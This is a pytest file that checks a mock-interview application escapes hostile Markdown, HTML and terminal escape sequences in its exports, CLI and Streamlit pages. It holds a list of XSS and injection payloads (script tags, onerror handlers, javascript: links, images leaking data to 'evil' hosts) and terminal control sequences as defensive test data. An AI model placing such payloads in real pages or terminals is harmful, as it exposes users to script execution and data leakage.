"""Untrusted text in Markdown and on the terminal (#12 defects 4, 5, 6): the policy functions,
the exports, the CLI and the app pages, each fed hostile text."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from datetime import UTC, datetime

import pytest
import streamlit as st
from factories import LOCAL, report
from markdown_it import MarkdownIt
from markdown_it.token import Token
from streamlit.testing.v1 import AppTest
from typer.testing import CliRunner

from interviewer.domain import Level, Speaker, Turn, TurnKind
from interviewer.report import Report, to_html, to_json, to_markdown
from interviewer.untrusted import inline_markdown, model_markdown, plain_markdown, terminal

ESCAPES = (
    "\x1b[2J\x1b]0;pwned\x07\x1b]8;;http://evil/o8\x1b\\click\x1b]8;;\x1b\\"
    " \x9b31mred \x9d8;;http://evil/c1\x9c \x1bPdcs\x1b\\ \x07bell \x08bs safe\rEVIL \x1bc"
)
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</details><script>alert(2)</script>",
    "![x](http://evil/x.png?answer=secret)",
    "[click](javascript:alert(1))",
    "[![a](http://evil/a.png)](http://evil/b)",
    "![a](<http://evil/a b.png>)",
    '![t](http://evil/t.png "title") ![e](data:image/png;base64,AAAA)',
    "[ref]: http://evil/r.png\n\n![r][ref] [r][ref] [ref]",
    "<http://evil/auto> http://evil/bare www.evil.com mail@evil.com",
    "&lt;script&gt; &#60;img src=x onerror=alert(3)&#62; &amp;",
    "\\![x](http://evil/y.png) \\\\![z](http://evil/z.png)",
    "# heading\n| a | b |\n|---|---|\n| 1 | 2 |\n- list\n1. item\n> quote\n```\ncode\n```",
    "$x^2$ :red[red] :material/home: ~~gone~~ <!-- comment --> <a href='http://evil'>a</a>",
    "x\n===\n\n    indented <b>\n\n***",
    ESCAPES,
]
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
_PARSER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def _tokens(markdown: str) -> Iterator[Token]:
    for token in _PARSER.parse(markdown):
        yield token
        yield from token.children or []


def dangers(markdown: str, allowed_html: tuple[str, ...] = ()) -> list[str]:
    """What would render as an image, a link or HTML, in CommonMark or GitHub's extensions."""
    found = [
        f"{t.type}: {t.content or t.attrs}"
        for t in _tokens(markdown)
        if t.type in ("image", "link_open", "html_inline", "html_block")
        and t.content.strip() not in allowed_html
    ]
    # GFM auto-links bare URLs and e-mail addresses; CommonMark does not know them.
    found += re.findall(r"(?i)(?:https?:(?=//)|www\.)|\w@\w", markdown)
    found += [f"control {c!r}" for c in CONTROL.findall(markdown.replace("\t", ""))]
    return found


def _visible(markdown: str) -> str:
    """The text a reader sees, whitespace collapsed (the invisible word joiners that keep an
    address from being linked are not seen)."""
    words = [
        t.content
        for t in _tokens(markdown)
        if t.type in ("text", "code_inline", "code_block", "fence", "softbreak")
    ]
    return " ".join(" ".join(words).replace("\u2060", "").split())


@pytest.mark.parametrize("text", HOSTILE)
def test_plain_markdown_shows_the_text_and_renders_nothing(text: str) -> None:
    for inline in (False, True):
        out = plain_markdown(text, inline=inline)
        assert not dangers(out), out
        kinds = {t.type for t in _tokens(out)}
        assert kinds <= {"paragraph_open", "paragraph_close", "inline", "text", "softbreak"}, out
        # Exactly the text, literally (less controls, and whitespace Markdown would fold).
        assert _visible(out) == " ".join(terminal(text).split())


@pytest.mark.parametrize("text", [*HOSTILE, "`<img src=x onerror=alert(1)>` and `http://evil/x`"])
def test_inline_markdown_keeps_code_spans_and_renders_nothing_else(text: str) -> None:
    out = inline_markdown(text)
    kinds = {t.type for t in _tokens(out)}
    assert kinds <= {"paragraph_open", "paragraph_close", "inline", "text", "code_inline"}, out
    assert not [t for t in _tokens(out) if t.type in ("image", "link_open", "html_inline")]
    assert "\n" not in out and not CONTROL.search(out)
    if "`" not in text:  # no code span: exactly what plain_markdown shows
        assert out == plain_markdown(text, inline=True)


def test_inline_markdown_shows_a_key_points_code_as_code() -> None:
    out = inline_markdown("Explains that `count += 1` is a read, add and <b>write</b>")
    code = [t.content for t in _tokens(out) if t.type == "code_inline"]
    assert code == ["count += 1"]
    assert _visible(out) == "Explains that count += 1 is a read, add and <b>write</b>"
    assert _visible(inline_markdown("a lone ` backtick")) == "a lone ` backtick"


@pytest.mark.parametrize(
    ("text", "escaped"),
    [("1. a list?", True), ("2) or this", True), ("7.", True), ("1.1.1", False), ("3.5/5", False)],
)
def test_a_number_is_escaped_only_where_it_would_start_a_list(text: str, escaped: bool) -> None:
    """A report's "pack backend-developer 1.1.1" was exported as "1\\.1.1"."""
    out = plain_markdown(text, inline=True)
    assert ("\\" in out) is escaped, out
    assert _visible(out) == text
    assert "ordered_list_open" not in {t.type for t in _tokens(out)}


def test_plain_markdown_shows_code_indentation_without_making_a_code_block() -> None:
    code = "def f(x):\n    if x:\n        return 1\n\treturn 0"
    out = plain_markdown(code)
    kinds = {t.type for t in _tokens(out)}
    assert "code_block" not in kinds
    lines = out.split("\n")
    assert [len(line) - len(line.lstrip("\u00a0")) for line in lines] == [0, 4, 8, 4]


@pytest.mark.parametrize("text", HOSTILE)
def test_model_markdown_renders_no_image_link_or_html(text: str) -> None:
    out = model_markdown(text)
    assert not dangers(out), out
    assert not re.search(r"(?<!\\)<", out.split("```")[0]), out  # HTML is shown as text


def test_model_markdown_keeps_ordinary_formatting() -> None:
    text = (
        "Use **indexes** and *measure* first:\n\n- `EXPLAIN ANALYZE`\n- a `B-tree` index\n"
        "  1. nested\n\n| isolation | anomaly |\n| --- | --- |\n| read committed | "
        "non-repeatable reads |\n\n```sql\nSELECT * FROM t WHERE a < 3;\n```\n\n> A quote.\n\n"
        "## Next\n\nSee [the docs](https://example.org/docs) and ![diagram](https://x/d.png)."
    )
    out = model_markdown(text)
    kinds = {t.type for t in _tokens(out)}
    for kind in ("strong_open", "em_open", "bullet_list_open", "ordered_list_open", "table_open"):
        assert kind in kinds
    assert "code_inline" in kinds and "fence" in kinds and "blockquote_open" in kinds
    assert "SELECT * FROM t WHERE a < 3;" in out  # code stays code, unescaped
    shown = _visible(out)
    assert "the docs (https://example.org/docs)" in shown and "[image: diagram]" in shown
    assert not dangers(out), out
    assert model_markdown(out) == out  # stable: writing it again changes nothing


def test_model_markdown_handles_code_with_backticks_and_pipes() -> None:
    out = model_markdown("Run ``a `b` c`` then\n\n| x |\n| - |\n| `a\\|b` |\n\n````\n```\n````")
    assert "a `b` c" in _visible(out)
    assert "```" in _visible(out)


def test_terminal_removes_every_sequence_and_control() -> None:
    out = terminal(ESCAPES + "\tünïcödé ✓ 日本\n")
    assert not CONTROL.search(out.replace("\n", "").replace("\t", "")), repr(out)
    assert "\x1b" not in out and "http://evil/o8" not in out
    for kept in ("click", "red", "bell", "bs", "safe", "EVIL", "\tünïcödé ✓ 日本\n"):
        assert kept in out
    assert terminal("a\r\nb\u202eevil\u2066") == "a\nbevil"


# --- exports -----------------------------------------------------------------------------


def _hostile_report() -> Report:
    from interviewer.domain import AnswerScore, CriterionScore, KeyPointResult
    from interviewer.report import CriterionSummary, QuestionReport

    bad = " ".join(HOSTILE)
    score = AnswerScore.model_validate(
        {
            "question_id": "q1",
            "overall": 2.0,
            "criteria": [
                CriterionScore(id="c", name=bad, score=2, reason=bad).model_dump(),
            ],
            "key_points": [
                KeyPointResult(id="k", text=bad, weight=1, covered=True, evidence=bad).model_dump(),
                KeyPointResult(id="m", text=bad, weight=1, covered=False).model_dump(),
            ],
            "red_flags": [bad],
            "scorer": "offline",
        }
    )
    return report(
        overall=2.0,
        criteria=[CriterionSummary(id="c", name=bad, category="technical", score=2, questions=1)],
        questions=[
            QuestionReport(
                question_id="q1",
                question=bad,
                category="technical",
                topic=bad,
                answer="\n".join(HOSTILE),
                score=score,
                reference_answer="\n\n".join(HOSTILE),
                study_next=[bad],
            )
        ],
        study_plan=[bad],
        notices=[bad],
        scorers=["offline"],
        questions_to_ask=[bad],
    )


def test_markdown_export_renders_no_image_link_or_html_and_keeps_its_details_block() -> None:
    md = to_markdown(_hostile_report())
    wrappers = ("<details><summary>Model answer</summary>", "</details>")
    assert not dangers(md, allowed_html=wrappers), md
    blocks = [t.content.strip() for t in _tokens(md) if t.type == "html_block"]
    assert blocks == list(wrappers)  # the answer and the model answer stay inside it
    assert "\x1b" not in md


def test_json_export_keeps_the_text_exactly_and_no_raw_control() -> None:
    text = to_json(_hostile_report())
    assert not CONTROL.search(text.replace("\n", ""))
    assert json.loads(text)["questions"][0]["answer"] == "\n".join(HOSTILE)


def test_html_export_escapes_everything() -> None:
    page = to_html(_hostile_report()).lower()
    assert "<script" not in page and "<img" not in page and "<a " not in page
    assert page.count("</details>") == 1


# --- the CLI -----------------------------------------------------------------------------


def _hostile_session() -> str:
    """A finished session whose candidate, interviewer and notice turns carry escape codes
    and hostile Markdown."""
    from interviewer.config import Settings
    from interviewer.services import Services

    services = Services.start(Settings())
    interview = services.new_interview("backend-developer", Level.MID, "phone-screen", viewer=LOCAL)
    interview.start()
    interview.handle("I would add an index " + " ".join(HOSTILE))
    interview.handle("end")
    session = interview.session
    now = datetime.now(UTC).isoformat()
    for speaker, kind in ((Speaker.INTERVIEWER, TurnKind.REPLY), (Speaker.SYSTEM, TurnKind.NOTICE)):
        session.turns.append(Turn(speaker=speaker, kind=kind, text=ESCAPES, at=now))
    session.notices.append(ESCAPES)
    services.store.save(session)
    return session.id


def test_cli_show_and_export_write_no_escape_sequence() -> None:
    runner = CliRunner()
    session_id = _hostile_session()
    for args in (
        ["sessions", "show", session_id],
        ["sessions", "export", session_id],
        ["sessions", "export", session_id, "--format", "json"],
    ):
        result = runner.invoke(__import__("interviewer.cli").cli.app, args, terminal_width=200)
        assert result.exit_code == 0, result.output
        assert not CONTROL.search(result.output.replace("\n", "").replace("\t", "")), args
        assert "click" in result.output or args[-1] == "json"


# --- the app -----------------------------------------------------------------------------


@pytest.fixture
def fresh_resources() -> Iterator[None]:
    st.cache_resource.clear()
    yield
    st.cache_resource.clear()


def _bodies(at: AppTest) -> list[str]:
    """Every Markdown string the page sent: bodies, captions, alerts, labels and tooltips."""
    out = [
        e.value
        for kind in ("markdown", "caption", "error", "warning", "info")
        for e in at.get(kind)
    ]
    out += [e.label for e in at.expander]
    for metric in at.metric:
        out += [metric.label, metric.help or ""]
    return out


def _assert_safe(at: AppTest) -> None:
    assert not at.exception, at.exception
    for body in _bodies(at):
        assert not dangers(body), body  # raw HTML included: it is parsed with html on


def _show(report_json: str) -> None:
    from interviewer.report import Report
    from interviewer.web.report_view import show_report

    show_report(Report.model_validate_json(report_json))


def test_report_page_renders_hostile_text_as_text() -> None:
    at = AppTest.from_function(_show, args=(_hostile_report().model_dump_json(),))
    at.run(timeout=60)
    _assert_safe(at)
    assert any("click" in b for b in _bodies(at))


def _history() -> None:
    from interviewer.web.history_page import history_page

    history_page()


@pytest.mark.usefixtures("fresh_resources")
def test_session_and_profile_from_the_url_are_shown_as_text() -> None:
    from interviewer.config import PROJECT_ROOT

    at = AppTest.from_file(str(PROJECT_ROOT / "app.py"), default_timeout=120)
    at.query_params["session"] = "![x](http://evil/s.png)<img src=x onerror=alert(1)>"
    at.run()
    _assert_safe(at)
    assert "No session" in at.error[0].value
    history = AppTest.from_function(_history, default_timeout=120)
    history.query_params["profile"] = "![p](http://evil/p.png)<b>[a](http://e)"
    history.run()
    _assert_safe(history)
    assert any("No interviews" in i.value for i in history.info)


@pytest.mark.usefixtures("fresh_resources")
def test_chat_page_renders_hostile_model_and_notice_text_as_text() -> None:
    """A running interview whose interviewer turns, notices and streamed reply carry images,
    links and HTML: the chat page renders none of them."""
    from interviewer.config import PROJECT_ROOT, Settings
    from interviewer.services import Services

    services = Services.start(Settings())
    interview = services.new_interview("backend-developer", Level.MID, "phone-screen", viewer=LOCAL)
    interview.start()
    session = interview.session
    now = datetime.now(UTC).isoformat()
    for text in HOSTILE:
        for speaker, kind in (
            (Speaker.INTERVIEWER, TurnKind.REPLY),
            (Speaker.SYSTEM, TurnKind.NOTICE),
        ):
            session.turns.append(Turn(speaker=speaker, kind=kind, text=text, at=now))
    services.store.save(session)
    at = AppTest.from_file(str(PROJECT_ROOT / "app.py"), default_timeout=120)
    at.query_params["session"] = session.id
    at.run()
    _assert_safe(at)
    assert any("click" in b for b in _bodies(at))  # the words are there, as text


def _bank_card(question_json: str) -> None:
    from interviewer.domain import Question
    from interviewer.web.bank_page import show_question

    show_question(Question.model_validate_json(question_json))


def test_question_bank_card_renders_hostile_pack_text_as_text() -> None:
    """A pack's own question (a team's file, so untrusted) with hostile text in every field the
    question bank shows."""
    from factories import question

    from interviewer.domain import Question

    hostile = " ".join(t for t in HOSTILE if "```" not in t and "\n" not in t)
    short = "![x](http://evil/q.png) [click](http://evil) <img src=x onerror=alert(1)>"
    item = question(text=f"How do indexes work? {short}")
    item["key_points"][0]["text"] = f"Names the B-tree. {short}"  # type: ignore[index]
    item["reference_answer"] = f"{item['reference_answer']} {hostile}"
    item["red_flags"] = [f"Says indexes are free. {hostile}"]
    card = Question.model_validate(item).model_dump_json()
    at = AppTest.from_function(_bank_card, args=(card,))
    at.run(timeout=60)
    _assert_safe(at)
    assert any("click" in b for b in _bodies(at))
